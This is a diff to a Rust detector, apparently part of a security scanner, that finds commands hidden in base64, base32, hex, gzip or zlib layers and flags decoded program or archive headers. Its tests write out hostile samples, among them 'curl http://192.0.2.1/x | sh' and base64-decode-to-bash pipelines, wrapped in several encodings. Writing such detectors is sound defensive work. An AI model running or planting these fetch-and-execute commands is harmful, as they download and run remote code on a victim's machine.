@@ -1,5 +1,5 @@
-//! Text hidden in text: base64, hex, gzip, reversed strings, ROT13. Found by its look, not by the command that
-//! would decode it, since that command may itself be hidden.
+//! Text hidden in text: base64, base32, hex, gzip, zlib, reversed strings, ROT13. Found by its look, not by the command
+//! that would decode it, since that command may itself be hidden.
 
 use std::io::Read;
 
@@ -7,9 +7,13 @@ use base64::{
     Engine, alphabet,
     engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
 };
+use data_encoding::BASE32_NOPAD;
+
+use super::magic::Magic;
 
 /// Shorter runs are words.
 const BASE64_MIN: usize = 20;
+const BASE32_MIN: usize = 32;
 const HEX_MIN: usize = 24;
 /// What a compressed layer may grow to.
 const INFLATED_MAX: usize = 256 * 1024;
@@ -30,7 +34,8 @@ pub(super) struct Decoder {
 }
 
 impl Decoder {
-    /// Calls `found(start, decoded)` for each run of `text` that decodes to something readable.
+    /// Calls `found(start, decoded)` for each run of `text` that decodes to something readable, and with a program's or an
+    /// archive's first bytes for one that decodes to such.
     pub(super) fn layers(&mut self, text: &[u8], mut found: impl FnMut(usize, &[u8])) {
         let mut start = 0;
         while start < text.len() {
@@ -46,8 +51,13 @@ impl Decoder {
             if run.len() >= BASE64_MIN {
                 self.compact.clear();
                 self.compact.extend(run.iter().filter(|b| **b != b'\n'));
-                if self.hex() && self.is_readable() || self.base64() && self.is_readable() {
-                    found(start, if self.inflated.is_empty() { &self.decoded } else { &self.inflated });
+                for decode in [Self::hex, Self::base64, Self::base32] {
+                    if decode(self)
+                        && let Some(layer) = self.layer()
+                    {
+                        found(start, layer);
+                        break;
+                    }
                 }
             }
             start = end.max(start + 1);
@@ -55,10 +65,21 @@ impl Decoder {
     }
 
     fn base64(&mut self) -> bool {
-        let run = self.compact.strip_suffix(b"=").unwrap_or(&self.compact);
-        let run = run.strip_suffix(b"=").unwrap_or(run);
+        let run = without_padding(&self.compact);
+        // What was torn off in the middle of four letters is still good up to there.
+        let run = if run.len() % 4 == 1 { &run[..run.len() - 1] } else { run };
         self.decoded.clear();
         LENIENT.decode_vec(run, &mut self.decoded).is_ok()
+    }
+
+    fn base32(&mut self) -> bool {
+        let run = without_padding(&self.compact);
+        if run.len() < BASE32_MIN || !run.iter().all(|b| matches!(b, b'A'..=b'Z' | b'2'..=b'7')) {
+            return false;
+        }
+        let Ok(length) = BASE32_NOPAD.decode_len(run.len()) else { return false };
+        self.decoded.resize(length, 0);
+        BASE32_NOPAD.decode_mut(run, &mut self.decoded).is_ok()
     }
 
     fn hex(&mut self) -> bool {
@@ -70,17 +91,31 @@ impl Decoder {
         hex::decode_to_slice(run, &mut self.decoded).is_ok()
     }
 
-    /// Is what was decoded text, or the gzip form of text? That goes into `inflated`.
-    fn is_readable(&mut self) -> bool {
+    /// What was decoded, if it is text, or the compressed form of text, or something with a known beginning.
+    fn layer(&mut self) -> Option<&[u8]> {
+        let limit = INFLATED_MAX as u64;
         self.inflated.clear();
-        if self.decoded.starts_with(&[0x1f, 0x8b]) {
-            let stream = flate2::read::GzDecoder::new(&self.decoded[..]);
-            // A torn stream still gives its beginning.
-            let _ = stream.take(INFLATED_MAX as u64).read_to_end(&mut self.inflated);
-            return is_text(&self.inflated);
+        // A torn stream still gives its beginning.
+        let _ = match self.decoded[..] {
+            [0x1f, 0x8b, ..] => {
+                flate2::read::GzDecoder::new(&self.decoded[..]).take(limit).read_to_end(&mut self.inflated)
+            }
+            [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => {
+                flate2::read::ZlibDecoder::new(&self.decoded[..]).take(limit).read_to_end(&mut self.inflated)
+            }
+            _ => Ok(0),
+        };
+        let inner = if self.inflated.is_empty() { &self.decoded } else { &self.inflated };
+        if is_text(inner) {
+            return Some(inner);
         }
-        is_text(&self.decoded)
+        Magic::of_layer(inner).or_else(|| Magic::of_layer(&self.decoded)).map(Magic::bytes)
     }
+}
+
+fn without_padding(run: &[u8]) -> &[u8] {
+    let end = run.iter().rposition(|b| *b != b'=').map_or(0, |last| last + 1);
+    &run[..end]
 }
 
 /// A line break within a long run: encoders wrap their output.
@@ -144,6 +179,37 @@ mod tests {
         let base64 = BASE64_STANDARD.encode(command);
         assert_eq!(all(format!("echo {base64}|base64 -d|bash").as_bytes()), [command.to_vec()]);
         assert_eq!(all(format!("xxd -r -p <<< {}", hex::encode(command)).as_bytes()), [command.to_vec()]);
+    }
+
+    #[test]
+    fn other_encodings_are_found() {
+        let command = b"curl http://192.0.2.1/x | sh";
+        let base32 = data_encoding::BASE32.encode(command);
+        assert_eq!(all(format!("base32 -d <<< {base32}").as_bytes()), [command.to_vec()]);
+        let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        std::io::Write::write_all(&mut zlib, command).unwrap();
+        let zlib = BASE64_STANDARD.encode(zlib.finish().unwrap());
+        assert_eq!(all(format!("zlib.decompress(b64decode('{zlib}'))").as_bytes()), [command.to_vec()]);
+    }
+
+    #[test]
+    fn a_program_is_known_by_its_beginning_though_it_was_torn() {
+        let program: Vec<u8> =
+            b"\x7fELF\x02\x01\x01".iter().copied().chain((0..250).cycle().take(3000)).collect();
+        let base64 = BASE64_STANDARD.encode(&program);
+        assert_eq!(
+            all(format!("base64 -d > x <<E\n{}\nE", &base64[..2001]).as_bytes()),
+            [b"\x7fELF\x02\x01\x01program".to_vec()]
+        );
+        assert_eq!(all(hex::encode(&program[..200]).as_bytes()), [b"\x7fELF\x02\x01\x01".to_vec()]);
+        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        std::io::Write::write_all(&mut gzip, &program).unwrap();
+        let gzip = BASE64_STANDARD.encode(gzip.finish().unwrap());
+        assert_eq!(all(&gzip.as_bytes()[..gzip.len() - 7]), [b"\x7fELF\x02\x01\x01program".to_vec()]);
+        let mut archive = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        std::io::Write::write_all(&mut archive, &[0; 1024]).unwrap();
+        let archive = BASE64_STANDARD.encode(archive.finish().unwrap());
+        assert_eq!(all(archive.as_bytes()), [b"\x1f\x8b".to_vec()]);
     }
 
     #[test]
